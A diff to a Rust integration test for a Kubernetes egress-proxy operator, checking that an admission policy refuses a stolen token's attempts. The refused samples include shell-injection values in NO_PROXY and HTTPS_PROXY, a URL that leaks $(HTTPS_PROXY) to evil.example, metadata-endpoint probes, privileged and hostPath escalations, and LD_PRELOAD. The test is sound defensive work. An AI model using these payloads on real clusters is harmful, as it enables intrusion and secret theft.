@@ -8,6 +8,7 @@ use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 
 use common::{Env, eventually, hash, wait_reason};
+use egress_proxy_operator::noproxy::Dialect;
 use k8s_openapi::api::core::v1::Secret;
 use kube::api::{Api, Patch, PatchParams};
 use kube::client::Body;
@@ -200,32 +201,217 @@ async fn send(
     )
 }
 
-/// What a stolen token of the shipped ServiceAccount can do: (what, method, path, body,
-/// status code, can it).
-/// A probe Job as the operator creates it (`spec.verification`), named with `suffix`, changed
-/// by `edit` (on the pod spec): each is refused for what `edit` did, not for its name.
+/// A probe Job as the operator's builder writes it (`spec.verification`, see
+/// `controller/plan/verify.rs`), named with `suffix`, changed by `edit` (on the whole Job):
+/// each is refused for what `edit` did, not for its name.
 fn probe_job(suffix: &str, edit: impl FnOnce(&mut Value)) -> Value {
-    let mut pod = json!({
-        "restartPolicy": "Never",
-        "automountServiceAccountToken": false,
-        "containers": [{"name": "probe", "image": "egress-proxy-operator:0.1.0",
-            "args": ["probe", "--endpoint", "https://example.org/=Proxied"],
-            "env": [{"name": "HTTPS_PROXY", "valueFrom": {"secretKeyRef":
-                {"name": "egress-proxy-outbound", "key": "slot.main.HTTPS_PROXY"}}}]}],
+    let labels = json!({"app.kubernetes.io/managed-by": "egress-proxy-operator",
+        "egressproxy.io/policy": "corp"});
+    let secret = |key: &str| json!({"secretKeyRef": {"name": "egress-proxy-corp", "key": key}});
+    let mut env = Vec::new();
+    for name in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy"] {
+        let key = format!("slot.main.{}", name.to_uppercase());
+        env.push(json!({"name": name, "valueFrom": secret(&key)}));
+    }
+    for name in ["NO_PROXY", "no_proxy"] {
+        env.push(json!({"name": name, "value": ".svc,.cluster.local,10.0.0.0/8,[fd00::1]"}));
+    }
+    env.push(
+        json!({"name": "EGRESS_PROXY_PROBE_CA", "valueFrom": {"configMapKeyRef":
+        {"name": "kube-root-ca.crt", "key": "ca.crt", "optional": true}}}),
+    );
+    let mut job = json!({
+        "metadata": {"name": format!("egress-proxy-verify-{suffix}"), "labels": labels,
+            "annotations": {"egressproxy.io/verification-key": "0123456789abcdef"},
+            "ownerReferences": [{"apiVersion": "egressproxy.io/v1alpha1",
+                "kind": "EgressProxyPolicy", "name": "corp",
+                "uid": "00000000-0000-0000-0000-000000000001",
+                "controller": true, "blockOwnerDeletion": true}]},
+        "spec": {"backoffLimit": 0, "activeDeadlineSeconds": 300, "ttlSecondsAfterFinished": 3600,
+            "template": {"metadata": {"labels": labels}, "spec": {
+                "restartPolicy": "Never",
+                "automountServiceAccountToken": false,
+                "enableServiceLinks": false,
+                "securityContext": {"runAsNonRoot": true, "runAsUser": 65532,
+                    "runAsGroup": 65532, "seccompProfile": {"type": "RuntimeDefault"}},
+                "containers": [{"name": "probe", "image": "egress-proxy-operator:0.1.0",
+                    "args": ["probe", "--dialect", "portable",
+                        "--endpoint", "https://kubernetes.default.svc.cluster.local/=Direct",
+                        "--endpoint", "https://example.org/=Proxied",
+                        "--termination-log", "/dev/termination-log"],
+                    "env": env,
+                    "resources": {"requests": {"cpu": "10m", "memory": "16Mi"},
+                        "limits": {"cpu": "200m", "memory": "64Mi"}},
+                    "securityContext": {"allowPrivilegeEscalation": false,
+                        "readOnlyRootFilesystem": true, "capabilities": {"drop": ["ALL"]}},
+                    "terminationMessagePolicy": "FallbackToLogsOnError"}]}}},
     });
-    edit(&mut pod);
-    json!({"metadata": {"name": format!("egress-proxy-verify-{suffix}"),
-            "labels": {"app.kubernetes.io/managed-by": "egress-proxy-operator"}},
-        "spec": {"backoffLimit": 0, "template": {"spec": pod}}})
+    edit(&mut job);
+    job
 }
 
-fn attempts() -> Vec<(
+/// The probe Job's Pod spec, and its one container.
+fn pod(job: &mut Value) -> &mut Value {
+    &mut job["spec"]["template"]["spec"]
+}
+
+fn probe_container(job: &mut Value) -> &mut Value {
+    &mut pod(job)["containers"][0]
+}
+
+type Edit = fn(&mut Value);
+
+/// A probe Job changed in one field, each refused by the admission policy: the allow-list's
+/// neighbours an attacker with the token would try (docs/security.md, one row each).
+const PROBE_JOB_REFUSALS: &[(&str, Edit)] = &[
+    (
+        "run another subcommand in a probe Job (demo --listen)",
+        |j| probe_container(j)["args"] = json!(["demo", "--listen", "0.0.0.0:8080"]),
+    ),
+    ("add a flag the probe Job does not use (--ca-file)", |j| {
+        let args = probe_container(j)["args"].as_array_mut().unwrap();
+        args.extend([json!("--ca-file"), json!("/var/run/secrets/x")])
+    }),
+    ("run a command in a probe Job", |j| {
+        probe_container(j)["command"] = json!(["sh", "-c", "id"])
+    }),
+    (
+        "expand $(HTTPS_PROXY) into a probe Job's endpoint URL",
+        |j| probe_container(j)["args"][6] = json!("https://evil.example/$(HTTPS_PROXY)=Proxied"),
+    ),
+    ("give a probe Job's Pod another Service's labels", |j| {
+        j["spec"]["template"]["metadata"]["labels"]["app"] = json!("api")
+    }),
+    (
+        "send an httpGet liveness probe from the node to 169.254.169.254",
+        |j| {
+            probe_container(j)["livenessProbe"] = json!({"httpGet": {"host": "169.254.169.254",
+            "path": "/latest/meta-data/", "port": 80,
+            "httpHeaders": [{"name": "Metadata-Flavor", "value": "Google"}]}})
+        },
+    ),
+    ("add a postStart lifecycle hook to a probe Job", |j| {
+        probe_container(j)["lifecycle"] = json!({"postStart": {"httpGet":
+            {"host": "169.254.169.254", "path": "/", "port": 80}}})
+    }),
+    ("add an exec readiness probe to a probe Job", |j| {
+        probe_container(j)["readinessProbe"] = json!({"exec": {"command": ["sh", "-c", "id"]}})
+    }),
+    ("run a probe Job as root", |j| {
+        pod(j)["securityContext"]["runAsUser"] = json!(0)
+    }),
+    ("run a probe Job's container as root", |j| {
+        probe_container(j)["securityContext"]["runAsUser"] = json!(0)
+    }),
+    ("add NET_ADMIN to a probe Job's capabilities", |j| {
+        probe_container(j)["securityContext"]["capabilities"]["add"] = json!(["NET_ADMIN"])
+    }),
+    ("run a probe Job with seccomp Unconfined", |j| {
+        pod(j)["securityContext"]["seccompProfile"] = json!({"type": "Unconfined"})
+    }),
+    ("run a probe Job with AppArmor Unconfined", |j| {
+        pod(j)["securityContext"]["appArmorProfile"] = json!({"type": "Unconfined"})
+    }),
+    ("allow privilege escalation in a probe Job", |j| {
+        probe_container(j)["securityContext"]["allowPrivilegeEscalation"] = json!(true)
+    }),
+    ("run a privileged probe Job", |j| {
+        probe_container(j)["securityContext"]["privileged"] = json!(true)
+    }),
+    ("open a hostPort in a probe Job", |j| {
+        probe_container(j)["ports"] = json!([{"containerPort": 8080, "hostPort": 80}])
+    }),
+    ("use the host network in a probe Job", |j| {
+        pod(j)["hostNetwork"] = json!(true)
+    }),
+    ("mount a hostPath volume in a probe Job", |j| {
+        pod(j)["volumes"] = json!([{"name": "root", "hostPath": {"path": "/"}}])
+    }),
+    ("add an init container to a probe Job", |j| {
+        pod(j)["initContainers"] = json!([{"name": "i", "image": "egress-proxy-operator:0.1.0"}])
+    }),
+    ("pin a probe Job to a node (nodeName)", |j| {
+        pod(j)["nodeName"] = json!("control-plane")
+    }),
+    ("tolerate every taint in a probe Job", |j| {
+        pod(j)["tolerations"] = json!([{"operator": "Exists"}])
+    }),
+    ("give a probe Job a priority class", |j| {
+        pod(j)["priorityClassName"] = json!("system-node-critical")
+    }),
+    ("add hostAliases to a probe Job", |j| {
+        pod(j)["hostAliases"] = json!([{"ip": "10.0.0.9", "hostnames": ["proxy.corp"]}])
+    }),
+    ("set a probe Job's dnsConfig", |j| {
+        pod(j)["dnsPolicy"] = json!("None");
+        pod(j)["dnsConfig"] = json!({"nameservers": ["10.0.0.9"]})
+    }),
+    ("run a probe Job 1000 times, 20 at once", |j| {
+        j["spec"]["parallelism"] = json!(20);
+        j["spec"]["completions"] = json!(1000)
+    }),
+    ("run a probe Job without a TTL", |j| {
+        j["spec"]
+            .as_object_mut()
+            .unwrap()
+            .remove("ttlSecondsAfterFinished");
+    }),
+    ("run a probe Job without a deadline", |j| {
+        j["spec"]
+            .as_object_mut()
+            .unwrap()
+            .remove("activeDeadlineSeconds");
+    }),
+    ("raise a probe Job's memory limit to 8Gi", |j| {
+        probe_container(j)["resources"]["limits"]["memory"] = json!("8Gi")
+    }),
+    ("set a probe Job's NO_PROXY to shell code", |j| {
+        probe_container(j)["env"][4]["value"] = json!("$(touch$IFS'PWNED')")
+    }),
+    ("set a probe Job's HTTPS_PROXY to a value", |j| {
+        probe_container(j)["env"][2] = json!({"name": "HTTPS_PROXY", "value": "http://evil:3128"})
+    }),
+    ("add another variable to a probe Job (LD_PRELOAD)", |j| {
+        let env = probe_container(j)["env"].as_array_mut().unwrap();
+        env.push(json!({"name": "LD_PRELOAD", "value": "/tmp/x.so"}))
+    }),
+    ("run a probe Job that no policy owns", |j| {
+        j["metadata"]
+            .as_object_mut()
+            .unwrap()
+            .remove("ownerReferences");
+    }),
+];
+
+type Attempt = (
     &'static str,
     &'static str,
     &'static str,
     Option<Value>,
     bool,
-)> {
+);
+
+/// The refusals above as rows of the table, each Job under its own name.
+fn probe_job_refusals() -> Vec<Attempt> {
+    PROBE_JOB_REFUSALS
+        .iter()
+        .enumerate()
+        .map(|(n, (what, edit))| {
+            let job = probe_job(&format!("r{n}"), edit);
+            (
+                *what,
+                "POST",
+                "/apis/batch/v1/namespaces/team-a/jobs",
+                Some(job),
+                false,
+            )
+        })
+        .collect()
+}
+
+/// What a stolen token of the shipped ServiceAccount can do: (what, method, path, body,
+/// status code, can it).
+fn attempts() -> Vec<Attempt> {
     let token_secret = json!({"metadata": {"name": "minted", "annotations":
         {"kubernetes.io/service-account.name": "admin"}},
         "type": "kubernetes.io/service-account-token"});
@@ -239,6 +425,17 @@ fn attempts() -> Vec<(
         [{"name": "agent", "image": "evil:1", "securityContext": {"privileged": true}}]}}}});
     let proxy_env = json!({"spec": {"template": {"spec": {"containers":
         [{"name": "api", "env": [{"name": "HTTPS_PROXY", "value": "http://evil:3128"}]}]}}}});
+    let env_patch = |env: Value| json!({"spec": {"template": {"spec": {"containers": [{"name": "api", "env": [env]}]}}}});
+    let proxy_ref = env_patch(json!({"name": "HTTPS_PROXY", "valueFrom": {"secretKeyRef":
+        {"name": "egress-proxy-corp", "key": "HTTPS_PROXY"}}}));
+    let shell_url = "http://svc:x$(touch$IFS'PWNED')@proxy.corp.example:3128";
+    let proxy_shell = env_patch(json!({"name": "HTTPS_PROXY", "value": shell_url}));
+    let no_proxy_shell = env_patch(json!({"name": "NO_PROXY", "value": ".svc,$(HTTPS_PROXY)"}));
+    let config_map = |no_proxy: &str| {
+        json!({"metadata": {"generateName": "egress-proxy-z-", "labels":
+            {"app.kubernetes.io/managed-by": "egress-proxy-operator"}},
+            "data": {"NO_PROXY": no_proxy}})
+    };
     let secret = json!({"metadata": {"name": "egress-proxy-x"}, "type": "Opaque"});
     let managed = json!({"metadata": {"name": "egress-proxy-y", "labels":
         {"app.kubernetes.io/managed-by": "egress-proxy-operator"}}, "type": "Opaque"});
@@ -268,6 +465,10 @@ fn attempts() -> Vec<(
     let job_tpl = |pod: serde_json::Value| json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": pod}}}}});
     let cron_env = job_tpl(json!({"containers":
         [{"name": "job", "env": [{"name": "HTTPS_PROXY", "value": "http://evil:3128"}]}]}));
+    let cron_ref = job_tpl(
+        json!({"containers": [{"name": "job", "env": [{"name": "HTTPS_PROXY",
+        "valueFrom": {"secretKeyRef": {"name": "egress-proxy-corp", "key": "HTTPS_PROXY"}}}]}]}),
+    );
     let cron_image = job_tpl(json!({"containers": [{"name": "job", "image": "evil:1"}]}));
     let cron_account = job_tpl(json!({"serviceAccountName": "admin"}));
     let cron_schedule = json!({"spec": {"schedule": "* * * * *"}});
@@ -275,9 +476,11 @@ fn attempts() -> Vec<(
     let policy_spec = json!({"spec": {"suspend": true}});
     let label = json!({"metadata": {"labels": {"egressproxy.io/enabled": "true"}}});
     let probe = probe_job("0", |_| {});
-    let other_image = probe_job("1", |pod| pod["containers"][0]["image"] = json!("evil:1"));
-    let with_token = probe_job("2", |pod| pod["automountServiceAccountToken"] = json!(true));
-    let as_admin = probe_job("3", |pod| pod["serviceAccountName"] = json!("admin"));
+    let other_image = probe_job("1", |j| probe_container(j)["image"] = json!("evil:1"));
+    let with_token = probe_job("2", |j| {
+        pod(j)["automountServiceAccountToken"] = json!(true)
+    });
+    let as_admin = probe_job("3", |j| pod(j)["serviceAccountName"] = json!("admin"));
     let lease = json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
         "metadata": {"name": "egress-proxy-operator"},
         "spec": {"holderIdentity": "thief", "leaseDurationSeconds": 3600}});
@@ -437,6 +640,20 @@ fn attempts() -> Vec<(
             true,
         ),
         (
+            "write NO_PROXY into a labelled egress-proxy-* ConfigMap in an opted-in namespace",
+            "POST",
+            "/api/v1/namespaces/team-a/configmaps",
+            Some(config_map(".svc,10.0.0.0/8,[fd00::1]")),
+            true,
+        ),
+        (
+            "write shell code into a managed ConfigMap's NO_PROXY",
+            "POST",
+            "/api/v1/namespaces/team-a/configmaps",
+            Some(config_map(".svc,`id`;$(touch$IFS'PWNED')")),
+            false,
+        ),
+        (
             "create a Secret with another name in an opted-in namespace",
             "POST",
             "/api/v1/namespaces/team-a/secrets",
@@ -577,18 +794,46 @@ fn attempts() -> Vec<(
             false,
         ),
         (
-            "set HTTPS_PROXY on a workload of an opted-in namespace",
+            "set HTTPS_PROXY on a workload of an opted-in namespace from a managed Secret",
             "PATCH",
             "/apis/apps/v1/namespaces/team-a/deployments/api",
-            Some(proxy_env),
+            Some(proxy_ref),
             true,
         ),
         (
-            "set HTTPS_PROXY on a CronJob of an opted-in namespace",
+            "set HTTPS_PROXY on a workload of an opted-in namespace to a value",
+            "PATCH",
+            "/apis/apps/v1/namespaces/team-a/deployments/api",
+            Some(proxy_env),
+            false,
+        ),
+        (
+            "set HTTPS_PROXY to a URL with shell code in its password",
+            "PATCH",
+            "/apis/apps/v1/namespaces/team-a/deployments/api",
+            Some(proxy_shell),
+            false,
+        ),
+        (
+            "set NO_PROXY to a value that expands $(HTTPS_PROXY)",
+            "PATCH",
+            "/apis/apps/v1/namespaces/team-a/deployments/api",
+            Some(no_proxy_shell),
+            false,
+        ),
+        (
+            "set HTTPS_PROXY on a CronJob of an opted-in namespace from a managed Secret",
+            "PATCH",
+            "/apis/batch/v1/namespaces/team-a/cronjobs/nightly",
+            Some(cron_ref),
+            true,
+        ),
+        (
+            "set HTTPS_PROXY on a CronJob of an opted-in namespace to a value",
             "PATCH",
             "/apis/batch/v1/namespaces/team-a/cronjobs/nightly",
             Some(cron_env),
-            true,
+            false,
         ),
         (
             "change the image of a CronJob in an opted-in namespace",
@@ -655,7 +900,7 @@ async fn a_stolen_token_can_do_only_what_docs_security_md_says() {
     let client = env.sim.client_with_token(&token(&env)).expect("client");
     let mut table = String::new();
     let mut wrong = Vec::new();
-    for (what, method, path, body, can) in attempts() {
+    for (what, method, path, body, can) in attempts().into_iter().chain(probe_job_refusals()) {
         let (status, reply) = send(&client, method, path, body).await;
         let allowed = (200..300).contains(&status);
         let row = format!(
@@ -672,6 +917,21 @@ async fn a_stolen_token_can_do_only_what_docs_security_md_says() {
         table.push('\n');
     }
     assert!(wrong.is_empty(), "{}\nmeasured:\n{table}", wrong.join("\n"));
+
+    // Every dialect the builder may name is on the allow-list.
+    for (n, dialect) in Dialect::ALL.iter().enumerate() {
+        let job = probe_job(&format!("d{n}"), |j| {
+            probe_container(j)["args"][2] = json!(dialect.name())
+        });
+        let (status, reply) = send(
+            &client,
+            "POST",
+            "/apis/batch/v1/namespaces/team-a/jobs",
+            Some(job),
+        )
+        .await;
+        assert_eq!(status, 201, "dialect {}: {reply}", dialect.name());
+    }
 
     // A denial does not echo what was sent.
     let body = json!({"metadata": {"name": "leak"}, "stringData": {"p": PASSWORD}});
@@ -760,9 +1020,21 @@ spec:
     active: main
   verification:
     endpoints: [{url: "https://status.example.com/", expect: Proxied}]
+---
+apiVersion: egressproxy.io/v1alpha1
+kind: EgressProxyPolicy
+metadata: {name: verified-java, namespace: team-a}
+spec:
+  workloadSelector: {matchLabels: {egress: verified-java}}
+  noProxy: {dialect: java, additional: [db.internal, "10.9.0.0/16"]}
+  proxy:
+    credentials: [{name: main, secretRef: {name: corp-proxy, namespace: platform}}]
+    active: main
+  verification:
+    endpoints: [{url: "https://status.example.com/$(HTTPS_PROXY)", expect: Proxied}]
 "#,
         )
-        .expect("policy");
+        .expect("policies");
     let dir = std::env::temp_dir().join(format!("epo-probe-{}", std::process::id()));
     std::fs::create_dir_all(&dir).expect("tmp dir");
     let op = Running::start(&env, &dir);
@@ -777,11 +1049,27 @@ spec:
     })
     .await;
     assert!(message.contains("checking slot main"), "{message}");
+    // The java dialect's options and a URL with `$(...)` pass as the builder writes them.
+    eventually("the java policy's probe Pod read", || async {
+        let p = env.policy("team-a", "verified-java").await;
+        let c = p
+            .status?
+            .conditions
+            .into_iter()
+            .find(|c| c.type_ == "Verified")?;
+        c.message.contains("ErrImagePull").then_some(())
+    })
+    .await;
     let jobs = Api::<k8s_openapi::api::batch::v1::Job>::namespaced(env.client.clone(), "team-a")
         .list(&Default::default())
         .await
         .expect("jobs");
-    assert_eq!(jobs.items.len(), 1);
+    assert_eq!(jobs.items.len(), 2);
+    let args = serde_json::to_string(&jobs.items).expect("json");
+    assert!(
+        args.contains("https://status.example.com/$$(HTTPS_PROXY)=Proxied"),
+        "{args}"
+    );
     op.stop();
     let _ = std::fs::remove_dir_all(&dir);
 }
